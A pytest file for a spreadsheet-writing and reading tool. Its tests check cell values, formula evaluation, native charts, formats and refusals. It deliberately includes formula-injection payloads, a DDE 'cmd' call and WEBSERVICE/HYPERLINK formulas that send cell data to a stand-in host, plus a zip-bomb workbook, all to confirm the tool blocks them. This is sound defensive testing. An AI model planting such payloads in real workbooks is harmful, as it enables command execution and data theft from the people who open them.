"""A workbook holds what was asked, formulas with their values included, for every program that reads it."""

from __future__ import annotations

import asyncio
import io
import math
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from auteryn.errors import ToolFailed
from auteryn.tools import sheet as module
from auteryn.tools.leash import Leash, Stopped
from auteryn.tools.registry import Registry
from auteryn.tools.sheet import sheet_create, sheet_read
from auteryn.tools.sheet_book import write_book
from auteryn.tools.sheet_formulas import Cell, Grid, cell_at, computed, shown_at
from auteryn.tools.sheet_plan import Planned
from auteryn.tools.tables import workbooks
from unit.tools.outside import as_a_judge_calls
from unit.tools.room import Room

PARTS = {
    "name": "Parts",
    "columns": ["item", "qty", "price"],
    "rows": [["bolt", 2, 9.99], ["nut", 3, 1.5], ["gear", 0, 120]],
}


def made(room: Room, *sheets: dict[str, Any]) -> dict[str, Any]:
    return room.call(sheet_create, path="book.xlsx", sheets=list(sheets))


def by_calamine(room: Room, sheet: str) -> list[list[Any]]:
    with CalamineWorkbook.from_filelike(io.BytesIO(room.files.read("book.xlsx"))) as book:
        return book.get_sheet_by_name(sheet).to_python(skip_empty_area=False)


def by_openpyxl(room: Room, sheet: str, *, values: bool = True) -> Any:
    return openpyxl.load_workbook(io.BytesIO(room.files.read("book.xlsx")), data_only=values)[sheet]


def cells(sheet: Any) -> list[list[Any]]:
    return [[cell.value for cell in row] for row in sheet]


def part(room: Room, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(room.files.read("book.xlsx"))) as archive:
        return archive.read(name).decode()


# ---- cells ---------------------------------------------------------------------------------------------------


@pytest.mark.proves("P20")
def test_a_judge_makes_a_table_with_a_chart_in_the_way_it_always_does(room: Room) -> None:
    given_ = as_a_judge_calls(
        sheet_create,
        path="summary.xlsx",
        sheets=[
            {
                "name": "Summary",
                "columns": ["region", "amount"],
                "rows": [["North", 12.5], ["South", 4.0]],
                "table": True,
                "charts": [{"kind": "bar", "title": "amount by region", "x": "region", "y": "amount"}],
            }
        ],
    )
    assert given_["sheets"][0]["rows"] == [["North", 12.5], ["South", 4.0]]
    told = room.call(sheet_create, **given_)
    assert told["sheets"] == [{"name": "Summary", "rows": 2, "columns": ["region", "amount"], "range": "A1:B3", "charts": 1}]
    read = room.call(sheet_read, **as_a_judge_calls(sheet_read, path="summary.xlsx"))
    assert read["rows"] == [["region", "amount"], ["North", 12.5], ["South", 4]]


@pytest.mark.tool("sheet_create", "happy")
@pytest.mark.proves("P20")
def test_two_readers_see_every_value_that_was_asked(room: Room) -> None:
    rows = [
        ["text", 1, 2.5, True, "2024-01-31", "2024-01-31T10:30", None],
        ["ünïcode 列 🎉", -7, 1e-9, False, "1999-12-31", "2024-02-29 00:00:01", ""],
        ["line\nbreak", 10**15, 0.123456789012345, True, None, None, "012"],
    ]
    made(room, {"name": "S", "columns": ["t", "i", "f", "b", "d", "dt", "n"], "rows": rows})
    want = [
        ["text", 1, 2.5, True, date(2024, 1, 31), datetime(2024, 1, 31, 10, 30), None],
        ["ünïcode 列 🎉", -7, 1e-9, False, date(1999, 12, 31), datetime(2024, 2, 29, 0, 0, 1), None],
        ["line\nbreak", str(10**15), 0.123456789012345, True, None, None, "012"],
    ]
    assert [[None if cell == "" else cell for cell in row] for row in by_calamine(room, "S")[1:]] == want
    for row, wanted in zip(cells(by_openpyxl(room, "S"))[1:], want, strict=True):
        row[4] = row[4] and row[4].date()
        assert row == wanted


def test_rows_may_be_objects_and_columns_may_carry_formats(room: Room) -> None:
    made(
        room,
        {
            "name": "S",
            "columns": ["a", {"header": "b", "format": "percent", "width": 30}, {"header": "c", "format": "0.000"}],
            "rows": [{"B": 0.5, "a": "x"}, ["y", 0.25, 1.5]],
            "formats": {"C3": "usd", "A": "text"},
        },
    )
    sheet = by_openpyxl(room, "S")
    assert cells(sheet) == [["a", "b", "c"], ["x", 0.5, None], ["y", 0.25, 1.5]]
    assert (
        sheet["B2"].number_format == "0.0%" and sheet["C3"].number_format == '"$"#,##0.00' and sheet["A2"].number_format == "@"
    )
    assert sheet.column_dimensions["B"].width == pytest.approx(30, abs=1) and sheet.freeze_panes == "A2"


def test_a_table_is_a_real_one_and_may_be_left_out(room: Room) -> None:
    made(
        room,
        PARTS,
        {**PARTS, "name": "Plain", "table": False},
        {"name": "Header only", "columns": ["a", "b"]},
        {"name": "Nothing"},
    )
    assert [table.ref for table in by_openpyxl(room, "Parts").tables.values()] == ["A1:C4"]
    assert not by_openpyxl(room, "Plain").tables and not by_openpyxl(room, "Header only").tables
    assert by_calamine(room, "Header only") == [["a", "b"]] and by_calamine(room, "Nothing") == []


def test_doubled_and_empty_headers_are_made_unique_and_that_is_said(room: Room) -> None:
    told = made(
        room, {"name": "S", "columns": ["a", "A", ""], "rows": [[1, 2, 3]]}, {"name": "T", "rows": [["h", "i"], [1, 2]]}
    )
    assert by_calamine(room, "S")[0] == ["a", "A_1", "Column3"] and by_calamine(room, "T") == [["h", "i"], [1.0, 2.0]]
    assert any("made unique" in line for line in told["warnings"]) and any(
        "became the headers" in line for line in told["warnings"]
    )


def test_a_source_is_a_file_or_a_query_and_columns_pick_or_rename(room: Room) -> None:
    room.put("sales.csv", "region,amount,when\nN,1.25,2024-01-05\nS,2,2024-02-01\n")
    made(
        room,
        {"name": "File", "source": "sales.csv"},
        {"name": "Picked", "source": "sales.csv", "columns": ["when", "region"]},
        {
            "name": "Asked",
            "source": "SELECT region, sum(amount)::DECIMAL(9, 2) AS s FROM 'sales.csv' GROUP BY 1 ORDER BY 1 DESC",
            "columns": ["Region", "Total"],
            "formulas": {"B4": "=SUM(B2:B3)"},
        },
    )
    assert by_calamine(room, "File")[1:] == [["N", 1.25, date(2024, 1, 5)], ["S", 2.0, date(2024, 2, 1)]]
    assert by_calamine(room, "Picked")[0] == ["when", "region"]
    assert by_calamine(room, "Asked") == [["Region", "Total"], ["S", 2.0], ["N", 1.25], ["", 3.25]]


@pytest.mark.proves("L14")
@pytest.mark.parametrize(
    "text", ["=1+1", "=cmd|'/c calc'!A1", "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", '=HYPERLINK("http://x","y")']
)
def test_text_from_outside_never_becomes_a_formula(room: Room, text: str) -> None:
    room.call(module.sheet_create, path="book.xlsx", sheets=[{"name": "S", "columns": [text], "rows": [[text]]}])
    sheet = by_openpyxl(room, "S", values=False)
    assert sheet["A2"].value == text and sheet["A2"].data_type == "s" and sheet["A1"].data_type == "s"
    assert "<f>" not in part(room, "xl/worksheets/sheet1.xml")


def test_given_text_that_looks_like_a_formula_is_pointed_out_a_files_is_not(room: Room) -> None:
    room.put("sales.csv", 'a\n"=1+1"\n')
    told = made(room, {"name": "S", "columns": ["a"], "rows": [["=B2*2"]]}, {"name": "F", "source": "sales.csv"})
    assert len(told["warnings"]) == 1 and "S!A2" in told["warnings"][0] and 'formulas: {"A2": …}' in told["warnings"][0]


# ---- formulas ------------------------------------------------------------------------------------------------


@pytest.mark.proves("P20")
def test_computed_values_stand_beside_the_formulas(room: Room) -> None:
    told = made(
        room,
        {
            **PARTS,
            "columns": ["item", "qty", "price", {"header": "total", "formula": "=[@qty]*[@price]", "format": "currency"}],
            "formulas": {"D6": "=SUM(D2:D4)", "C6": "AVERAGE(C2:C4)", "B6": "=COUNT(B2:B4)+Second!A2%"},
        },
        {"name": "Second", "columns": ["n"], "rows": [[50]], "formulas": {"A4": "=Parts!D6-1"}},
    )
    want = {"D2": 19.98, "D3": 4.5, "D4": 0, "D6": 24.48, "C6": 131.49 / 3, "B6": 3.5}
    assert told["computed"] == pytest.approx({f"Parts!{cell}": value for cell, value in want.items()} | {"Second!A4": 23.48})
    values, formulas, grid = by_openpyxl(room, "Parts"), by_openpyxl(room, "Parts", values=False), by_calamine(room, "Parts")
    for cell, value in want.items():
        row, column = cell_at(cell) or (0, 0)
        assert values[cell].value == pytest.approx(value) and grid[row][column] == pytest.approx(value)
    assert (
        formulas["D2"].value == "=$B2*$C2"
        and formulas["D6"].value == "=SUM(D2:D4)"
        and formulas["D6"].number_format == "#,##0.00"
    )
    assert "warnings" not in told


def test_of_many_formulas_the_totals_and_the_errors_are_told(room: Room) -> None:
    rows = [[n, n % 90] for n in range(1, 301)]
    columns = ["a", "b", {"header": "share", "formula": "=A{row}/B{row}"}]
    total = {"name": "Total", "columns": ["sum"], "rows": [[None]], "formulas": {"A2": "=SUM(All!A2:A301)"}}
    told = made(room, {"name": "All", "columns": columns, "rows": rows, "formulas": {"A302": "=SUM(A2:A301)"}}, total)
    assert told["computed"]["Total!A2"] == told["computed"]["All!A302"] == 45_150 and len(told["computed"]) == 50
    (warning,) = told["warnings"]
    assert warning.startswith("All!C91, C181, C271 show #DIV/0!")


def test_an_unknown_formula_is_written_empty_not_wrong_and_said(room: Room) -> None:
    told = made(room, {**PARTS, "formulas": {"B6": '=VLOOKUP("nut",A2:C4,2,FALSE)', "C6": "=B6+1", "A6": "=1/0"}})
    assert by_openpyxl(room, "Parts")["B6"].value is None and by_openpyxl(room, "Parts")["A6"].value == "#DIV/0!"
    assert by_openpyxl(room, "Parts", values=False)["B6"].value == '=VLOOKUP("nut",A2:C4,2,FALSE)'
    assert "VLOOKUP is not known here" in told["warnings"][0] and "it needs Parts!B6" in told["warnings"][1]


@pytest.mark.proves("L14")
@pytest.mark.parametrize(
    "formula",
    [
        "=cmd|'/c calc'!A1",
        '=WEBSERVICE("http://x/?d="&A1)',
        "=[other.xlsx]S!A1",
        "='[other.xlsx]S'!A1",
        '=HYPERLINK("http://x/?d="&A2,"y")',
        "=IMPORTDATA(A1)",
        '=RTD("x",,"y")',
    ],
)
def test_a_formula_that_reaches_out_is_not_written(room: Room, formula: str) -> None:
    told = room.refusal(sheet_create, path="book.xlsx", sheets=[{**PARTS, "formulas": {"B6": formula}}])
    assert told.kind == "blocked" and not room.files.exists("book.xlsx")


def test_a_plain_link_is_no_way_out(room: Room) -> None:
    made(room, {**PARTS, "formulas": {"B6": '=HYPERLINK("https://example.com/a|b","here")'}})
    assert by_openpyxl(room, "Parts")["B6"].value == "here"


ROWS = [
    ["n", "v", "t"],
    ["North", 10, "x"],
    ["South", 2.5, None],
    ["East", None, "y"],
    ["West", "abc", True],
    ["New", date(2024, 1, 1), 3],
]


@pytest.mark.parametrize(
    ("formula", "value"),
    [
        ("=SUM(B2:B5)", 12.5),
        ("=AVERAGE(B2:B5)", 6.25),
        ("=COUNT(B2:B6)", 3),
        ("=COUNTA(B2:B5)", 3),
        ("=MIN(B2:B5)", 2.5),
        ("=MAX($B$2:$B$5,99)", 99),
        ("=MEDIAN(B2:B3,1)", 2.5),
        ("=PRODUCT(B2:B3)", 25),
        ("=SUM(B:B)", 12.5 + 45_292),
        ("=-2^2", 4),
        ("=2^-1", 0.5),
        ("=2^3^2", 64),
        ("=50%*B2", 5),
        ("=(1+2)*3-4/2", 7),
        ("=1/0", "#DIV/0!"),
        ("=B5+1", "#VALUE!"),
        ("=AVERAGE(A2:A5)", "#DIV/0!"),
        ('=IFERROR(1/0,"none")', "none"),
        ('=IF(B2>=10,"big","small")', "big"),
        ("=IF(B4,1)", False),
        ("=AND(B2>1,B3>5)", False),
        ("=OR(B2>1,B3>5)", True),
        ("=Other!A1*2", 42),
        ("='My sheet'!B2&\"!\"", "hey!"),
        ('=SUMIF(A2:A6,"N*",B2:B6)', 10 + 45_292),
        ('=COUNTIF(B2:B5,">=2.5")', 2),
        ('=COUNTIF(A2:A6,"<>North")', 4),
        ('=AVERAGEIF(B2:B5,">1")', 6.25),
        ("=ROUND(2.345,2)", 2.35),
        ("=ROUND(-2.5,0)", -3),
        ("=ABS(-3)", 3),
        ('=A2="north"', True),
        ('=SUM(1,2,"3")', 6),
        ("=TRUE+1", 2),
        ('="a""b"', 'a"b'),
        ("=B4", 0),
        ("=B6+1", 45_293),
        ("=A99", 0),
        ("=1<2", True),
    ],
)
def test_a_formula_has_the_value_excel_gives(formula: str, value: Any) -> None:
    grids = {"S": Grid(ROWS, {(0, 9): formula}), "Other": Grid([[21]], {}), "My sheet": Grid([[], ["", "hey"]], {})}
    values, unknown = computed(grids)
    assert (
        not unknown
        and values[Cell("S", 0, 9)] == value
        and isinstance(values[Cell("S", 0, 9)], bool) == isinstance(value, bool)
    )


@pytest.mark.parametrize("formula", ["=NOW()", "=Nope!A1", "=A1+", "=SUM(T[v])", "=A1:B2", "={1,2}", "=A1 B1", "=J1"])
def test_what_is_beyond_the_evaluator_is_said_never_guessed(formula: str) -> None:
    values, unknown = computed({"S": Grid(ROWS, {(0, 9): formula})})
    assert not values and list(unknown) == [Cell("S", 0, 9)]


def test_long_chains_and_circles_of_formulas_end() -> None:
    length = 3_000
    chain = {(row, 1): f"=A{row + 1}" + (f"+B{row + 2}" if row < length - 1 else "") for row in range(length)}
    values, unknown = computed({"S": Grid([[1]] * length, chain)})
    assert values[Cell("S", 0, 1)] == length and not unknown
    circle = {(0, 0): "=B1", (0, 1): "=C1", (0, 2): "=A1+1"}
    values, unknown = computed({"S": Grid([], circle)})
    assert not values and len(unknown) == 3 and any("circle" in why for why in unknown.values())


def test_more_work_than_is_sane_is_left_to_excel(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("auteryn.tools.sheet_formulas.MOST_READS", 50)
    values, unknown = computed({"S": Grid([[1]] * 100, {(0, 1): "=SUM(A1:A100)", (1, 1): "=1+1"})})
    assert list(values.values()) == [2] and "too many cells" in unknown[Cell("S", 0, 1)]


numbers = st.one_of(st.integers(-1_000, 1_000), st.floats(-1e6, 1e6, allow_nan=False).map(lambda x: round(x, 3)))


@given(st.lists(numbers, min_size=1, max_size=20), numbers, numbers)
def test_arithmetic_and_sums_agree_with_exact_arithmetic(column: list[float], a: float, b: float) -> None:
    last = len(column)
    formulas = {(0, 1): f"=SUM(A1:A{last})", (0, 2): f"={a!r}-({b!r})*2", (0, 3): f"=MIN(A1:A{last})+MAX(A1:A{last})"}
    values, unknown = computed({"S": Grid([[value] for value in column], formulas)})
    assert not unknown or "e-" in str(formulas)
    exact = [Decimal(repr(value)) for value in column]
    assert float(values[Cell("S", 0, 1)]) == pytest.approx(float(sum(exact)), rel=1e-12, abs=1e-9)
    assert float(values[Cell("S", 0, 2)]) == pytest.approx(float(Decimal(repr(a)) - Decimal(repr(b)) * 2), rel=1e-12, abs=1e-9)
    assert float(values[Cell("S", 0, 3)]) == pytest.approx(min(column) + max(column))


@given(st.integers(0, 1_048_575), st.integers(0, 16_383))
def test_a_reference_and_its_numbers_are_the_same_cell(row: int, column: int) -> None:
    assert cell_at(shown_at(row, column)) == (row, column)


# ---- charts --------------------------------------------------------------------------------------------------


@pytest.mark.proves("P20")
@pytest.mark.parametrize("kind", ["bar", "column", "line", "area", "pie", "scatter"])
def test_a_chart_is_native_and_shows_the_cells_it_names(room: Room, kind: str) -> None:
    made(room, {**PARTS, "name": "My parts", "charts": [{"type": kind, "title": "Stock", "x": "ITEM", "y": "price"}]})
    body = part(room, "xl/charts/chart1.xml")
    assert set(re.findall(r"<c:f>(.*?)</c:f>", body)) == {"'My parts'!$C$1", "'My parts'!$A$2:$A$4", "'My parts'!$C$2:$C$4"}
    assert "<a:t>Stock</a:t>" in body and f"<c:{'bar' if kind == 'column' else kind}Chart>" in body
    assert ('barDir val="bar"' in body) == (kind == "bar")
    drawn = by_openpyxl(room, "My parts", values=False)._charts
    assert len(drawn) == 1


def test_a_chart_takes_all_numbers_when_it_is_not_told_and_several_by_commas(room: Room) -> None:
    made(room, {**PARTS, "charts": [{}, {"y": "qty, price", "at": "B8"}, {"kind": "pie"}]})
    archive = zipfile.ZipFile(io.BytesIO(room.files.read("book.xlsx")))
    series = [archive.read(f"xl/charts/chart{n}.xml").decode().count("<c:ser>") for n in (1, 2, 3)]
    assert series == [2, 2, 1]
    anchors = re.findall(
        r"<xdr:from><xdr:col>(\d+)</xdr:col>.*?<xdr:row>(\d+)</xdr:row>", archive.read("xl/drawings/drawing1.xml").decode()
    )
    assert ("1", "7") in anchors and len(set(anchors)) == 3


@pytest.mark.parametrize(("title", "shown"), [("=Parts!A1", "Parts! A1"), ("Wow! Up", "Wow! Up"), ("=1+1", "1+1")])
def test_a_chart_title_is_never_a_reference(room: Room, title: str, shown: str) -> None:
    made(room, {**PARTS, "charts": [{"title": title}]})
    assert f"<a:t>{shown}</a:t>" in part(room, "xl/charts/chart1.xml")


# ---- what goes wrong -----------------------------------------------------------------------------------------


@pytest.mark.tool("sheet_create", "failure")
@pytest.mark.parametrize(
    ("change", "kind", "says"),
    [
        ({"name": "a/b"}, "invalid", "none of"),
        ({"name": "x" * 32}, "invalid", "1 to 31"),
        ({"name": "history"}, "invalid", "History"),
        ({"rows": [["a", 1, 2, 3]]}, "invalid", "rows[0]"),
        ({"rows": [{"nope": 1}]}, "invalid", "is no column"),
        ({"formulas": {"B6": "=SUM(B2:B4"}}, "invalid", "brackets"),
        ({"formulas": {"B6": '="open'}}, "invalid", "quotes"),
        ({"formulas": {"nope": "=1"}}, "invalid", "neither a cell"),
        ({"formulas": {"B1": "=1"}}, "invalid", "headers"),
        ({"formulas": {"B6": "=[@nope]"}}, "invalid", "is no column"),
        ({"formats": {"nope": "0"}}, "invalid", "neither a column"),
        ({"charts": [{"y": "nope"}]}, "invalid", "is no column"),
        ({"charts": [{"at": "nope"}]}, "invalid", "must be a cell"),
        ({"charts": [{"kind": "donut"}]}, "invalid", "must be one of"),
        ({"source": "x.csv"}, "invalid", "beside rows"),
        ({"rows": [], "source": "x.csv"}, "not_found", "neither a table file"),
        ({"rows": [], "source": "DROP TABLE x"}, "not_found", "nor a SELECT"),
        ({"colour": "red"}, "invalid", "is not known"),
        ({"columns": [{"name": "a"}]}, "invalid", "takes header, format, formula, width"),
    ],
)
def test_a_wrong_sheet_is_refused_by_name_and_nothing_is_written(
    room: Room, change: dict[str, Any], kind: str, says: str
) -> None:
    told = room.refusal(sheet_create, path="book.xlsx", sheets=[PARTS | change])
    assert (told.kind, says in str(told)) == (kind, True), str(told)
    assert not room.files.exists("book.xlsx")


def test_two_sheets_of_one_name_a_wrong_suffix_and_too_much_are_refused(room: Room, monkeypatch: pytest.MonkeyPatch) -> None:
    assert "twice" in str(room.refusal(sheet_create, path="b.xlsx", sheets=[PARTS, PARTS | {"name": "PARTS"}]))
    assert room.refusal(sheet_create, path="b.xls", sheets=[PARTS]).kind == "unsupported"
    assert room.refusal(sheet_create, path="../b.xlsx", sheets=[PARTS]).kind == "denied"
    monkeypatch.setattr(module, "MOST_CELLS", 20)
    assert room.refusal(sheet_create, path="b.xlsx", sheets=[PARTS, PARTS | {"name": "Two"}]).kind == "too_large"
    large = {"name": "S", "source": "SELECT range FROM range(100)"}
    assert room.refusal(sheet_create, path="b.xlsx", sheets=[large]).kind == "too_large"


def test_a_text_longer_than_a_cell_is_cut_and_said(room: Room) -> None:
    told = made(room, {"name": "S", "columns": ["a"], "rows": [["x" * 40_000]]})
    assert len(by_calamine(room, "S")[1][0]) == 32_767 and "S!A2 was cut" in told["warnings"][0]


def test_the_same_call_gives_the_same_bytes(room: Room) -> None:
    sheets = [
        {**PARTS, "formulas": {"B6": "=SUM(B2:B4)"}, "charts": [{"kind": "pie"}, {"kind": "line"}]},
        PARTS | {"name": "Two"},
    ]
    first = made(room, *sheets)
    body = room.files.read("book.xlsx")
    assert made(room, *sheets) == first and room.files.read("book.xlsx") == body


def test_a_call_that_is_over_writes_nothing(room: Room) -> None:
    leash = Leash()
    leash.pull()
    with pytest.raises(Stopped), room.files.path_to_write("book.xlsx") as to:
        write_book(to, [Planned("S", ["a"], [[1]])], {}, leash)
    assert not room.files.exists("book.xlsx")

    async def cancel_it() -> None:
        assert room.context is not None
        call = asyncio.create_task(sheet_create.fn(room.context, path="book.xlsx", sheets=arguments))
        await asyncio.sleep(0)
        call.cancel()
        with pytest.raises(asyncio.CancelledError):
            await call

    from auteryn.tools.signature import arguments as read

    room.call(sheet_create, path="other.xlsx", sheets=[PARTS])
    arguments = read(sheet_create, {"path": "", "sheets": [{"name": "S", "source": "SELECT range, 1 FROM range(100000)"}]})[
        "sheets"
    ]
    asyncio.run(cancel_it())
    assert not room.files.exists("book.xlsx") and not list((room.files.own / "tmp").iterdir())


# ---- reading -------------------------------------------------------------------------------------------------


@pytest.mark.tool("sheet_read", "happy")
def test_reading_gives_cells_ranges_and_sheets(room: Room) -> None:
    made(
        room, PARTS, {"name": "Zwei", "columns": ["when", "n"], "rows": [["2024-01-05", 1.5], [None, None], ["2024-01-07", 2]]}
    )
    read = room.call(sheet_read, path="book.xlsx")
    assert (read["sheet"], read["sheets"], read["range"], read["row_count"]) == ("Parts", ["Parts", "Zwei"], "A1:C4", 4)
    part = room.call(sheet_read, path="book.xlsx", sheet="parts", range="C4:B3")
    assert (part["rows"], part["range"]) == ([[3, 1.5], [0, 120]], "B3:C4")
    zwei = room.call(sheet_read, path="book.xlsx", sheet="Zwei")
    assert zwei["rows"] == [["when", "n"], ["2024-01-05", 1.5], [None, None], ["2024-01-07", 2]]
    cut = room.call(sheet_read, path="book.xlsx", limit=2)
    assert (len(cut["rows"]), cut["row_count"], cut["truncated"], cut["range"]) == (2, 4, True, "A1:C2")


@pytest.mark.tool("sheet_read", "failure")
def test_reading_refuses_what_it_cannot_read(room: Room, monkeypatch: pytest.MonkeyPatch) -> None:
    made(room, PARTS)
    room.put("bad.xlsx", b"PK\x03\x04 not really")
    assert room.refusal(sheet_read, path="book.xlsx", sheet="Nope").kind == "not_found"
    assert "'Parts'" in str(room.refusal(sheet_read, path="book.xlsx", sheet="Nope"))
    assert room.refusal(sheet_read, path="book.xlsx", range="nonsense").kind == "invalid"
    assert room.refusal(sheet_read, path="nope.xlsx").kind == "not_found"
    assert room.refusal(sheet_read, path="data.txt").kind == "unsupported"
    assert room.refusal(sheet_read, path="bad.xlsx").kind == "unsupported"
    monkeypatch.setattr(workbooks, "MOST_CELLS", 5)
    assert room.refusal(sheet_read, path="book.xlsx").kind == "too_large"


@pytest.mark.proves("L14")
def test_a_workbook_that_is_a_bomb_is_not_unpacked(room: Room) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as bomb:
        bomb.writestr("xl/workbook.xml", b"\0" * 64_000_000)
    room.put("bomb.xlsx", out.getvalue())
    assert room.refusal(sheet_read, path="bomb.xlsx").kind == "too_large"


def test_without_its_library_the_tool_says_what_to_install(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("importlib.util.find_spec", lambda name: None)
    registry = Registry([sheet_create, sheet_read])
    with pytest.raises(ToolFailed, match=r"auteryn\[office\]"):
        registry.get("sheet_create")


def test_reading_has_no_effect_and_writing_may_be_repeated() -> None:
    assert (sheet_read.effect, sheet_create.effect, sheet_read.untrusted) == ("read", "idempotent", True)
    assert sheet_create.serial and sheet_create.serial({"path": "x.xlsx"}) == "x.xlsx"
    assert math.isfinite(sheet_create.timeout.total_seconds())


def test_a_formula_never_writes_what_no_spreadsheet_can_hold(room: Room) -> None:
    formulas = {
        "D2": "=A2+1",
        "D3": "=A3+1",
        "D4": "=B2*10",
        "D5": "=SUM(B2,B2)",
        "D6": "=ROUND(B3,40)",
        "D7": "=ROUND(1E300,2)",
        "D8": "=ROUND(123456789.125,-2)",
        "D9": "=" + "(" * 3_000 + "1" + ")" * 3_000,
        "D10": '=SUMIF(C2:C3,">=2024-02-01",B2:B3)',
        "D11": '=COUNTIF(A2:A3,"<>2024-02-01")',
        "D12": "=C3+1",
    }
    rows = [["nan", 1e308, "2024-01-01"], ["1_000", 2.5, "2024-03-01"]]
    told = room.call(
        sheet_create, path="a.xlsx", sheets=[{"name": "S", "columns": ["a", "b", "c"], "rows": rows, "formulas": formulas}]
    )
    assert told["computed"] == {
        "S!D2": "#VALUE!",
        "S!D3": "#VALUE!",
        "S!D4": "#NUM!",
        "S!D5": "#NUM!",
        "S!D6": 2.5,
        "S!D7": 1e300,
        "S!D8": 123456800,
        "S!D10": 2.5,
        "S!D11": 2,
        "S!D12": 45353,
    }
    assert "nests too deeply" in told["warnings"][0]


def test_days_before_excels_first_stay_text_wherever_they_come_from(room: Room) -> None:
    room.put("a.csv", "name,born\nx,1850-03-04\ny,1999-01-01\n")
    room.call(sheet_create, path="a.xlsx", sheets=[{"name": "S", "source": "a.csv"}])
    assert room.call(sheet_read, path="a.xlsx")["rows"][1:] == [["x", "1850-03-04"], ["y", "1999-01-01"]]


def test_doubled_quotes_beyond_the_first_lines_of_a_csv_are_read(room: Room) -> None:
    lines = "".join(f'{n},"hello, you"\n' for n in range(800))
    room.put("a.csv", f'id,text\n{lines}999,"he said ""hi, there"" to"\n')
    assert room.call(sheet_read, path="a.csv", limit=1_000)["rows"][-1] == [999, 'he said "hi, there" to']


@pytest.mark.parametrize("encoding", ["utf-16", "cp1252"])
def test_a_csv_in_another_encoding_is_read_as_data_query_reads_it(room: Room, encoding: str) -> None:
    room.put("a.csv", "name;city\r\nMüller;München\r\n".encode(encoding))
    assert room.call(sheet_read, path="a.csv")["rows"] == [["name", "city"], ["Müller", "München"]]


def test_a_csv_that_cannot_be_read_cell_by_cell_says_what_reads_it(room: Room) -> None:
    room.put("a.csv", "a,b\n" + "x" * 200_000 + ",1\n")
    failed = room.refusal(sheet_read, path="a.csv")
    assert failed.kind == "unsupported" and "data_query" in str(failed)


def test_headers_with_control_signs_or_one_name_make_a_sound_workbook(room: Room) -> None:
    columns = ["a\x01b", {"header": "T", "formula": "=1"}, {"header": "T", "formula": "=2"}]
    told = room.call(sheet_create, path="a.xlsx", sheets=[{"name": "S", "columns": columns, "rows": [["x\x0by", None, None]]}])
    assert told["computed"] == {"S!B2": 1, "S!C2": 2}
    book = openpyxl.load_workbook(io.BytesIO(room.files.read("a.xlsx")))
    assert [cell.value for cell in book["S"][1]] == ["ab", "T", "T_1"]


# ---- as it is looked at --------------------------------------------------------------------------------------


def test_a_printed_sheet_is_one_page_wide_and_its_header_is_on_each(room: Room) -> None:
    room.call(sheet_create, path="b.xlsx", sheets=[{"name": "S", "columns": ["a", "b"], "rows": [[1, 2]]}])
    sheet = openpyxl.load_workbook(io.BytesIO(room.files.read("b.xlsx"))).active
    assert sheet is not None
    assert (sheet.page_setup.orientation, sheet.page_setup.fitToHeight) == ("landscape", 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.print_title_rows, sheet["A1"].font.b) == ("$1:$1", True)


def test_the_axes_of_native_charts_are_named_and_days_are_days(room: Room) -> None:
    rows = [["2024-01-31", "North", 1.5], ["2024-02-29", "South", -2]]
    charts = [{"kind": "line", "x": "day", "y": "n"}, {"kind": "bar", "x": "region", "y": "n"}, {"kind": "pie", "x": "region"}]
    sheet = {"name": "S", "columns": ["day", "region", "n"], "rows": rows, "charts": charts}
    room.call(sheet_create, path="b.xlsx", sheets=[sheet])
    with zipfile.ZipFile(io.BytesIO(room.files.read("b.xlsx"))) as parts:
        line, bar, pie = (parts.read(f"xl/charts/chart{number}.xml").decode() for number in (1, 2, 3))
    assert '<c:numFmt formatCode="yyyy-mm-dd" sourceLinked="0"/>' in line.partition("<c:dateAx>")[2].partition("</c:dateAx>")[0]
    category = bar.partition("<c:catAx>")[2].partition("</c:catAx>")[0]
    assert "<a:t>region</a:t>" in category and '<c:orientation val="maxMin"/>' in category
    assert '<c:tickLblPos val="low"/>' in category
    assert '<c:showPercent val="1"/>' in pie
    assert '<c:crosses val="max"/>' in bar.partition("<c:valAx>")[2], "the figures stand below the bars, not above"


@pytest.mark.parametrize(
    ("kind", "figures", "from_zero"),
    [
        ("bar", [2553, 2450, 2175], True),
        ("column", [2553, 2450, 2175], True),
        ("line", [2553, 2450, 2175], False),
        ("bar", [10, 2], False),
        ("bar", [-10, -9.5], False),
    ],
)
def test_bars_begin_at_zero_also_where_all_are_nearly_as_long(
    room: Room, kind: str, figures: list[float], from_zero: bool
) -> None:
    rows = [[f"R{at}", figure] for at, figure in enumerate(figures)]
    made(room, {"name": "S", "columns": ["region", "n"], "rows": rows, "charts": [{"kind": kind, "x": "region", "y": "n"}]})
    assert ('<c:min val="0"/>' in part(room, "xl/charts/chart1.xml")) == from_zero
